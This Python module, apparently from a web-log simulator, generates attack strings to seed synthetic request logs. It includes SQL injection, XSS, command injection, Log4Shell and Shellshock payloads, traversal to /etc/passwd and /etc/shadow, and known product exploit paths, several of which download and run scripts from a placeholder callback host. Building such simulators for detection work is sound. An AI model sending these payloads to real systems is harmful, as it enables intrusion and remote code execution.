"""Payloads as they stand in logs, for holes in queries, paths and headers. Hosts in them are reserved examples.

In the templates `@N` is a number of four digits, `@S` a small one, `@W` a made-up word, `@NULLS` a list of columns,
and `@HOST` where a hole would report to.
"""

from collections.abc import Callable
from random import Random
from urllib.parse import quote, quote_plus

from simulator.randomness import letters
from simulator.site import Site

KEYS = (
    "id",
    "cat",
    "page",
    "q",
    "file",
    "lang",
    "view",
    "item",
    "sort",
    "user",
    "product_id",
    "p",
    "action",
    "url",
    "name",
)
CALLBACK = "callback.example.net"

SQLI = (
    "1' AND @N=@N-- @W",
    "1 AND @N=@S",
    "1' OR '1'='1",
    "-1 UNION ALL SELECT @NULLS-- -",
    "1' UNION SELECT @NULLS,CONCAT(0x71,user(),0x71)#",
    "1 AND SLEEP(@S)",
    "1';WAITFOR DELAY '0:0:5'--",
    "1) AND (SELECT @N FROM(SELECT COUNT(*),CONCAT(1,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.TABLES GROUP BY x)a)",
    "1 AND EXTRACTVALUE(@N,CONCAT(0x5c,0x71))",
    "1 ORDER BY @S-- ",
    "admin'--",
    "@S'",
    '@S"',
    "1/**/UNION/**/SELECT/**/@S,version()",
    "1' AND ASCII(SUBSTRING((SELECT database()),@S,1))>64--+",
    "1; DROP TABLE @W--",
    "(SELECT (CASE WHEN (@N=@N) THEN 1 ELSE @N END))",
    "1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)",
    "1' AND (SELECT @N FROM PG_SLEEP(5)) IS NULL--",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
)
XSS = (
    "<script>alert('@W')</script>",
    '"><script>alert(@S)</script>',
    "<img src=x onerror=alert(@S)>",
    "<svg/onload=confirm`@W`>",
    "'-alert(document.cookie)-'",
    "javascript:alert('@W')",
    "<iframe src=javascript:alert(1)>",
    '" onmouseover="prompt(@N)" x="',
    "<body onload=alert('@W')>",
    "</title><ScRiPt>alert(1)</sCrIpT>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>x</a>",
    "<details open ontoggle=alert(1)>@W",
    "{{constructor.constructor('alert(1)')()}}",
)
RCE = (
    ";id",
    "|cat /etc/passwd",
    "`wget http://@HOST/@W`",
    "$(curl @HOST/@W)",
    "127.0.0.1;wget http://@HOST/@W -O /tmp/@W;sh /tmp/@W",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://input",
    "http://@HOST/@W.txt?",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "${@S*@S}",
    "{{@S*@S}}",
    "%{(#_='multipart/form-data')}",
    "system('id')",
    "<?php echo md5('@W');?>",
    "& ping -n 3 @HOST &",
    "|nslookup @W.@HOST",
    "phpinfo()",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
)
LOG4SHELL = (
    "${jndi:ldap://@HOST:1389/@W}",
    "${jndi:dns://@W.@HOST}",
    "${${lower:j}ndi:${lower:l}dap://@HOST/@W}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://@HOST/@W}",
    "${jndi:ldap://127.0.0.1#@HOST/@W}",
)
SHELLSHOCK = (
    '() { :; }; /bin/bash -c "wget @HOST/@W"',
    '() { foo; }; echo; /bin/bash -c "cat /etc/passwd"',
    "() { _; } >_[$($())] { echo vulnerable; }",
    "() { :;}; echo Content-Type: text/plain; echo; /usr/bin/id",
)
# Whole targets: exploits of well-known products.
EXPLOITS = (
    "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/shell?cd+/tmp;rm+-rf+*;wget+@HOST/jaws;sh+/tmp/jaws",
    "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://@HOST/m+-O+/tmp/n;sh+n&curpath=/",
    "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
    "/board.cgi?cmd=cd+/tmp;wget+@HOST/a;sh+a",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+@HOST%60)",
    "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
    "/catalog-portal/ui/oauth/verify?error=&deviceUdid=$%7b%22freemarker.template.utility.Execute%22?new()(%22id%22)%7d",
    "/wls-wsat/CoordinatorPortType",
    "/GponForm/diag_Form?images/",
    "/_ignition/execute-solution",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
)
WAYS_UP = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "..\\", "..%5c", "....//", ".%2e/", "%c0%ae%c0%ae/")
GOALS = ("etc/passwd", "etc/passwd%00", "etc/shadow", "windows/win.ini", "proc/self/environ", "etc/hosts", "boot.ini")


def _filled(rng: Random, templates: tuple[str, ...]) -> str:
    text = rng.choice(templates)
    nulls = ",".join(["NULL"] * rng.randrange(1, 20))
    number, small, word = str(rng.randrange(1000, 9999)), str(rng.randrange(1, 40)), letters(rng, 6)
    for mark, value in (("@NULLS", nulls), ("@N", number), ("@S", small), ("@W", word), ("@HOST", CALLBACK)):
        text = text.replace(mark, value)
    return text


def sqli(rng: Random) -> str:
    """SQL in a value, before encoding: probing, blind, union, errors, stacked, or slipped past a filter."""
    return _filled(rng, SQLI)


def xss(rng: Random) -> str:
    """Script in a value, before encoding."""
    return _filled(rng, XSS)


def rce(rng: Random) -> str:
    """A command or code to run, before encoding."""
    return _filled(rng, RCE)


def exploit(rng: Random) -> str:
    """The target of a known exploit, as it stands in the request line."""
    return _filled(rng, EXPLOITS)


def log4shell(rng: Random) -> str:
    """A look-up that a logging library of old would follow; many forms to slip past filters."""
    return _filled(rng, LOG4SHELL)


def shellshock(rng: Random) -> str:
    """A shell function in a header."""
    return _filled(rng, SHELLSHOCK)


def traversal(rng: Random) -> str:
    """A way out of the folder, already as it stands in the target: some encode it, once or twice."""
    return rng.choice(WAYS_UP) * rng.randrange(3, 11) + rng.choice(GOALS)


KINDS: tuple[Callable[[Random], str], ...] = (sqli, xss, traversal, rce)


def anything(rng: Random) -> str:
    """A payload of any kind, before encoding."""
    return rng.choice(KINDS)(rng)


def encoded(rng: Random, payload: str, habit: str = "") -> str:
    """As a tool's habit is: `percent`, `plus`, `double`, or `raw` but for blanks. Traversal is encoded already."""
    habit = habit or rng.choice(("percent", "percent", "plus", "raw"))
    if "%" in payload or habit == "raw":
        return payload.replace(" ", "%20")
    if habit == "plus":
        return quote_plus(payload)
    return quote(quote(payload, safe="")) if habit == "double" else quote(payload, safe="/()*")


def in_page(rng: Random, site: Site, payload: str, key: str = "", habit: str = "") -> str:
    """A target of the site with the payload in its query."""
    if site.layout.search and not key and rng.random() < 0.4:
        return site.layout.search + encoded(rng, payload, habit)
    page = site.popular_page(rng)
    return f"{page.path}?{key or rng.choice(KEYS)}={encoded(rng, payload, habit)}"
